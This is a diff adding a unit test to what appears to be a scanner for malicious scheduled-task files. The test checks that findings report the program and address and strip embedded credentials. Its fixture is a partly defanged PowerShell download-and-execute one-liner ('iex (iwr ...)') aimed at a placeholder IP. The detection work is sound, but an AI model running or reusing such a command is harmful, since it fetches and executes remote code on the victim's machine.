@@ -25,6 +25,16 @@ def test_the_message_says_when_and_as_whom() -> None:
     assert finding.evidence[0].line == 6
 
 
+def test_a_command_is_shown_with_its_program_and_its_address() -> None:
+    source = "ht·tps://u:s3cret@192.0.2.7/x?key=s3cret"
+    (finding,) = found(task_file("powershell.exe", f"-c i·ex (i·wr '{source}')"))
+    assert finding.message.startswith(
+        "it runs downloaded or decoded text as code with powershell.exe, from https" + "://192.0.2.7/x, at each start"
+    )
+    assert finding.facts["address"] == "https" + "://192.0.2.7/x"
+    assert "s3cret" not in str(finding.facts)
+
+
 def test_a_class_is_shown_where_it_is() -> None:
     (finding,) = found(task_file(class_id="{5b1c9d2e-7a44-4f0b-9e21-0c3d5a6b7f80}"))
     assert finding.severity is Severity.MEDIUM
